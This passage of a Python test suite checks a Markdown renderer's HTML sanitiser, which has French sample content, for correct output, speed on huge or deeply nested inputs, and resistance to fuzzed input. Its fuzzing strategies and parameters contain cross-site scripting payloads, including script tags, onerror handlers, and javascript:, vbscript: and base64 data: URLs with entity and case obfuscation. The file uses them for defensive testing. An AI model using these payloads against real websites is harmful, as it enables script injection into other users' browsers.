                 '<a href="tel:+33123456789" rel="noopener noreferrer nofollow">appeler</a> '
                 '<a href="/pratiques/x" rel="noopener noreferrer nofollow">page</a></p>',
                 id="mailto-tel-relative"),
    pytest.param("[lien][r]\n\n[r]: https://exemple.fr", '<p><a href="https://exemple.fr" '
                 'rel="noopener noreferrer nofollow">lien</a></p>', id="reference-link"),
    pytest.param("* un\n* deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>", id="bullet-list"),
    pytest.param("3. trois\n4. quatre", '<ol start="3">\n<li>trois</li>\n<li>quatre</li>\n</ol>',
                 id="ordered-list-start"),
    pytest.param("* un\n    * sous", "<ul>\n<li>un<ul>\n<li>sous</li>\n</ul>\n</li>\n</ul>",
                 id="nested-list"),
    pytest.param("| a | b |\n|---|---|\n| 1 | 2 |", "<table>\n<thead>\n<tr>\n<th>a</th>\n"
                 "<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n"
                 "</tbody>\n</table>", id="table"),
    pytest.param("```\nx < 1 && y\n```", "<pre><code>x &lt; 1 &amp;&amp; y\n</code></pre>",
                 id="fenced-code"),
    pytest.param("Un `a < b` ici", "<p>Un <code>a &lt; b</code> ici</p>", id="code-span"),
    pytest.param("> cité\n> encore", "<blockquote>\n<p>cité\nencore</p>\n</blockquote>",
                 id="blockquote"),
    pytest.param("**gras** *penché* ~~barré~~", "<p><strong>gras</strong> <em>penché</em> "
                 "~~barré~~</p>", id="emphasis"),
    pytest.param("x<sup>2</sup> a < b",
                 "<p>x&lt;sup&gt;2&lt;/sup&gt; a &lt; b</p>", id="raw-html-is-text"),
    pytest.param("Terme\n:   définition", "<dl>\n<dt>Terme</dt>\n<dd>définition</dd>\n</dl>",
                 id="definition-list"),
    pytest.param("---", "<hr>", id="rule"),
])
def test_legitimate_markdown_keeps_its_meaning(text, expected):
    assert assert_safe(text) == expected


# --- Size and depth: rendering must not hang ------------------------------------------

LONG = 200_000
PROSE = """## Accueillir une nouvelle personne

Le premier jour, la **tutrice** présente l’équipe. Voir [la fiche](https://exemple.fr/a?b=1
"Fiche") et <https://exemple.fr/guide>, ou écrire à <mailto:rh@exemple.fr>.

1. Préparer le poste : `badge`, *casier*, tenue.
2. Présenter les consignes de sécurité.
    - extincteurs
    - issues de secours

> « Prendre le temps d’expliquer, c’est gagner du temps. »

| Jour | Étape |
|:-----|------:|
| J1 | Accueil |

```python
print("<b>bonjour</b>")
```

"""


def _fill(unit: str) -> str:
    return (unit * (LONG // len(unit) + 1))[:LONG]


def _hostile_document() -> str:
    return _fill("\n\n".join(param.values[0] for param in HOSTILE) + "\n\n")


@pytest.mark.parametrize("make", [
    pytest.param(lambda: _fill(PROSE), id="prose"),
    pytest.param(lambda: _fill("Le tutorat, c’est **important** : voir [la fiche]"
                               "(https://exemple.fr/a) et `code`. "), id="one-long-paragraph"),
    pytest.param(_hostile_document, id="hostile-battery"),
    pytest.param(lambda: _fill("<script>alert(1)</script><img src=x onerror=alert(1)>\n"),
                 id="repeated-payloads"),
    # Unclosed brackets: python-markdown scanned to the end again for every one of them
    # (Python-Markdown/markdown#798), 20 KB of "[" took 95 s before markup.py bounded it.
    pytest.param(lambda: "[" * LONG, id="unclosed-brackets"),
    pytest.param(lambda: _fill("!["), id="unclosed-image-brackets"),
    pytest.param(lambda: _fill("[ "), id="spaced-brackets"),
    pytest.param(lambda: _fill("[[]"), id="unbalanced-nested-brackets"),
    pytest.param(lambda: _fill("[x]("), id="unclosed-link-targets"),
    pytest.param(lambda: _fill("[x](<"), id="unclosed-angle-targets"),
    pytest.param(lambda: _fill("[x](()"), id="unbalanced-parentheses"),
    pytest.param(lambda: _fill('[x](a"b)'), id="unclosed-title-quotes"),
    pytest.param(lambda: _fill("![x]["), id="unclosed-image-references"),
    pytest.param(lambda: "<" * LONG, id="angle-brackets"),
    pytest.param(lambda: "`" * LONG, id="backticks"),
    pytest.param(lambda: _fill("&#"), id="entity-starts"),
    pytest.param(lambda: _fill("<!--"), id="comment-starts"),
    # Raw HTML is never parsed (markup._RawHtmlAsText): these took 5 to 37 s before.
    pytest.param(lambda: _fill("<a "), id="unclosed-raw-tags"),
    pytest.param(lambda: _fill('<a href="'), id="unclosed-raw-attributes"),
    pytest.param(lambda: _fill("<b>x</b> "), id="many-raw-tags"),
    pytest.param(lambda: _fill('<div markdown="1">'), id="nested-markdown-blocks"),
    # Addresses typed as is (markup._BareUrls): every one is a link, none a slow match.
    pytest.param(lambda: _fill("https://a.fr/(x)). "), id="bare-urls-and-parentheses"),
    pytest.param(lambda: _fill("https://a.fr/" + ")" * 50 + "."), id="bare-url-long-trailer"),
    pytest.param(lambda: _fill("www."), id="bare-www-runs"),
    pytest.param(lambda: _fill("https://a.fr/" + "." * 5_000 + "x "), id="bare-url-full-of-dots"),
    # Its text is atomic: 50,000 characters of « _x_ » in one address took 3.4 s.
    pytest.param(lambda: "https://a.fr/" + "_x_/" * (LONG // 4), id="bare-url-full-of-emphasis"),
    pytest.param(lambda: "https://a.fr/" + ")" * LONG, id="bare-url-closing-parentheses"),
    pytest.param(lambda: "https://a.fr/" + "(" * LONG, id="bare-url-opening-parentheses"),
    # Abbreviations are not in the extensions: this took 26 s for 50 KB.
    pytest.param(lambda: _fill("*[x]: y\n"), id="abbreviation-definitions"),
])
def test_long_input_renders_quickly_and_safely(make):
    text = make()
    started = time.process_time()
    out = str(render_markdown(text))
    elapsed = time.process_time() - started
    assert elapsed < 2.0, f"{len(text):,} characters took {elapsed:.1f} s of CPU"
    assert problems(out) == []


@pytest.mark.parametrize("text", [
    pytest.param("[" * LONG, id="unclosed-brackets"),
    pytest.param(_fill("[x]("), id="unclosed-link-targets"),
    pytest.param(_fill(PROSE), id="prose"),
])
def test_plain_text_of_long_input_is_quick(text):
    started = time.process_time()
    plain_text(text, limit=300)
    assert time.process_time() - started < 2.0


@pytest.mark.parametrize("text", [
    pytest.param("".join("    " * i + "- niveau\n" for i in range(100)), id="list-100-deep"),
    pytest.param("".join("    " * i + "1. niveau\n" for i in range(100)), id="ordered-100-deep"),
    pytest.param(">" * 5000 + " cité", id="blockquote-5000-markers"),
    pytest.param("> " * 5000 + "cité", id="blockquote-5000-spaced-markers"),
    pytest.param("\n".join(">" * i + " cité" for i in range(1, 200)), id="blockquote-staircase"),
    pytest.param("<div>" * 5000 + "x" + "</div>" * 5000, id="div-5000-deep"),
    pytest.param("<b>" * 5000 + "x", id="b-5000-unclosed"),
    pytest.param("<ul><li>" * 1000 + "x", id="html-list-1000-deep"),
    pytest.param('<div markdown="1">' * 100 + "*x*" + "</div>" * 100, id="markdown-1-100-deep"),
    pytest.param("[" * 1000 + "x" + "](https://ok.example)" + "]" * 999, id="brackets-1000-deep"),
])
def test_deep_nesting_renders_quickly_and_safely(text):
    started = time.process_time()
    out = assert_safe(text)
    assert time.process_time() - started < 2.0
    assert out


# --- Property-based tests -------------------------------------------------------------

PROPERTIES = settings(max_examples=300, deadline=None, database=None)

FRAGMENTS = [
    "<", ">", "/", '"', "'", "=", " ", "\n", "\n\n", "\t", "    ", "`", "```", "[", "]", "(",
    ")", "](", "![", "]:", "!", "*", "**", "_", "#", "> ", "- ", "1. ", "|", "---", "{:", "}",
    "[^1]", "*[", "&", "&#", "&#x", ";", ":", "\\", "\x00", "\x01", "\x02", "\x03", "\u2028",
    "javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;", "&#x6A;", "avascript:",
    "vbscript:", "data:text/html,", "https://ok.example", "alert(1)", "on", "onerror",
    "onload", "onclick=", "script", "<script>", "</script>", "svg", "<svg", "math", "<math>",
    "img", "<img", "src=", "href=", "xlink:href=", "<a ", "</a>", "style", "style=",
    "<style>", "<noscript>", "</noscript>", "<template>", "<iframe", "<!--", "-->",
    "<![CDATA[", "]]>", "<div", "</div>", 'markdown="1"', "#id", ".class", "x", "é", "<p",
    "</p>", "<b>", "<h1",
]
dangerous_text = st.lists(st.sampled_from(FRAGMENTS), max_size=60).map("".join)
any_text = st.text(max_size=300)


@st.composite
def disguised(draw, word: str) -> str:
    """A word as an attacker hides it: random case, entities, tabs and newlines between letters."""
    out = []
    for char in word:
        char = draw(st.sampled_from([char.lower(), char.upper()]))
        out.append(draw(st.sampled_from([
            char, char, char, f"&#{ord(char)};", f"&#x{ord(char):x};", f"&#x{ord(char):X};",
            f"&#{ord(char):07d}", f"&#{ord(char)}"])))
        out.append(draw(st.sampled_from(["", "", "", "", "\t", "&#9;", "&#x0A;", "&#13;", "\n"])))
    return "".join(out)


@st.composite
def hostile_urls(draw) -> str:
    scheme = draw(st.sampled_from(["javascript", "vbscript", "data", "livescript", "file",
                                   "http", "https", "mailto", "tel"]))
    lead = draw(st.sampled_from(["", "", " ", "  ", "\t", "&#32;", "&#x01;", "\x01", "%20"]))
    colon = draw(st.sampled_from([":", ":", "&colon;", "&#58;", "&#x3A;"]))
    rest = draw(st.sampled_from(["alert(1)", "//%0aalert(1)", "text/html,<script>alert(1)</script>",
                                 "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                                 "//ok.example/", "msgbox(1)"]))
    return lead + draw(disguised(scheme)) + colon + rest


ATTRIBUTE_NAMES = st.one_of(
    st.sampled_from(sorted(NEVER_ATTRIBUTES | URL_ATTRIBUTES | NH3_GENERIC_ATTRIBUTES
                           | {"onerror", "onload", "onclick", "onmouseover", "onfocus", "rel",
                              "start", "scope", "dir", "hidden", "value", "type"})),
    st.from_regex(r"on[a-z]{2,16}", fullmatch=True),
)
ATTRIBUTE_VALUES = st.one_of(hostile_urls(), dangerous_text, st.sampled_from([
    "alert(1)", "background:url(javascript:alert(1))", "width:expression(alert(1))",
    '"><img src=x onerror=alert(1)>', "1", "0;url=javascript:alert(1)", "noopener"]))


@st.composite
def hostile_tags(draw) -> str:
    """A raw HTML tag, allowed or not, with handlers, styles and URLs, well or badly formed."""
    name = draw(st.one_of(st.sampled_from(sorted(markup.TAGS)), st.sampled_from(sorted(
        NEVER_TAGS | {"a", "div", "span", "h1", "svg", "math", "mglyph", "mtext", "xmp"}))))
    tag = "".join(draw(st.sampled_from([c.lower(), c.upper()])) for c in name)
    parts = [f"<{tag}"]
    for _ in range(draw(st.integers(1, 4))):
        quote = draw(st.sampled_from(['"', "'", "", "`"]))
        separator = draw(st.sampled_from([" ", " ", "/", "\n", "\t", "\x0c", " \x00"]))
        parts.append(f"{separator}{draw(ATTRIBUTE_NAMES)}={quote}{draw(ATTRIBUTE_VALUES)}{quote}")
    parts.append(draw(st.sampled_from([">", ">", "/>", "", " ", f">x</{tag}>"])))
    return "".join(parts)


html_oddities = st.builds(
    str.format, st.sampled_from(["<!--{}-->", "<!--{}", "<![CDATA[{}]]>", "<!DOCTYPE {}>",
                                 "<?{}?>", "<!{}>", "</{}>", "<{}", "&{};", "&#{};"]),
    dangerous_text)


hostile_links = st.builds(lambda template, url: template.format(url=url),
                          st.sampled_from(list(URL_PLACES.values())), hostile_urls())
markdownish = st.one_of(
    any_text, dangerous_text, hostile_links, hostile_tags(), html_oddities,
    st.lists(st.one_of(dangerous_text, hostile_links, hostile_tags(), html_oddities, any_text),
             min_size=2, max_size=6).map(lambda parts: "".join(
                 part + ("\n", " ", "\n\n", "")[len(part) % 4] for part in parts)),
)


@PROPERTIES
@given(hostile_tags())
def test_any_attribute_on_any_tag_leaves_nothing_a_browser_would_run(text):
    assert_safe(text)
    assert_safe(f"Un paragraphe {text} au milieu.")


@PROPERTIES
@given(markdownish)
def test_any_text_leaves_nothing_a_browser_would_run(text):
    assert_safe(text)


@PROPERTIES
@given(markdownish)
def test_sanitising_any_output_again_removes_nothing(text):
    assert_second_pass_removes_nothing(text)


words = st.from_regex(r"[A-Za-z0-9À-ÖØ-öø-ÿ]{1,20}", fullmatch=True)
hosts = st.from_regex(r"[a-z][a-z0-9-]{0,10}(\.[a-z][a-z0-9-]{0,10}){0,2}\.(fr|com|org)",
                      fullmatch=True)
paths = st.from_regex(r"(/[A-Za-z0-9._~-]{0,12}){0,4}", fullmatch=True)
queries = st.from_regex(r"(\?[a-z]{1,8}=[A-Za-z0-9]{0,8}(&[a-z]{1,8}=[A-Za-z0-9]{0,8}){0,2})?",
                        fullmatch=True)
fragments = st.from_regex(r"(#[A-Za-z0-9-]{0,10})?", fullmatch=True)
http_urls = st.builds("{}://{}{}{}{}".format, st.sampled_from(["http", "https"]), hosts, paths,
                      queries, fragments)


def _links(out: str) -> list[tuple[str | None, str]]:
    tree = parse(out)
    hrefs = [dict(attrs).get("href") for tag, attrs in tree.elements if tag == "a"]
    texts = [data for tag, data in tree.texts if tag == "a"]
    return list(zip(hrefs, texts, strict=True))


@PROPERTIES
@given(words)
def test_a_word_in_double_stars_stays_strong(word):
    out = assert_safe(f"Avant **{word}** après.")
    assert out == f"<p>Avant <strong>{word}</strong> après.</p>"


@PROPERTIES
@given(words, words)
def test_emphasis_code_and_headings_keep_their_words(word, other):
    out = assert_safe(f"# {word}\n\n*{other}* `{word}`\n\n* {other}")
    texts = parse(out).texts
    assert ("h2", word) in texts
    assert ("em", other) in texts
    assert ("code", word) in texts
    assert ("li", other) in texts


def python_markdown_alone(text: str) -> str:
    """render_markdown() without markup.py's bound on link scanning: the reference."""
    html = markdown.markdown(text, extensions=[
        "fenced_code", "tables", "def_list", "sane_lists", markup._RawHtmlAsText(),
        markup._BareUrls()],
        output_format="html")
    for level in range(5, 0, -1):
        html = html.replace(f"<h{level}", f"<h{level + 1}")
        html = html.replace(f"</h{level}>", f"</h{level + 1}>")
    return sanitise_again(html)


link_soup = st.lists(st.sampled_from([
    "[", "]", "(", ")", "![", "](", "]: ", '"', "'", " ", "x", "<", ">", "\n", "[^1]", "[r]",
    "\n\n[r]: https://a.fr", "https://a.fr/", "\\", "`", "*", "&#"]), max_size=60).map("".join)


@PROPERTIES
@given(st.one_of(markdownish, link_soup).map(lambda text: text[:400]))
def test_the_bound_on_link_scanning_changes_nothing_for_texts_of_ordinary_size(text):
    # 400 characters cannot spend LINK_SCAN_BUDGET nor reach LINK_DESTINATION_MAX.
    assert str(render_markdown(text)) == python_markdown_alone(text)


@PROPERTIES
@given(words, http_urls)
def test_an_http_link_keeps_its_target(word, url):
    for text in (f"[{word}]({url})", f"[{word}][r]\n\n[r]: {url}",
                 f'[{word}]({url} "Titre")'):
        assert _links(assert_safe(text)) == [(url, word)], text
    assert _links(assert_safe(f"<{url}>")) == [(url, url)]


@PROPERTIES
@given(words, http_urls.filter(lambda url: not url.endswith(tuple(markup.URL_TRAILERS))))
def test_an_address_pasted_as_is_becomes_its_link(word, url):
    for text in (f"{word} {url} {word}", f"Voir : {url}.", f"({url})", f"« {url} »",
                 f"- {url}\n- {word}", f"**{word}** {url}"):
        assert _links(assert_safe(text)) == [(url, url)], text
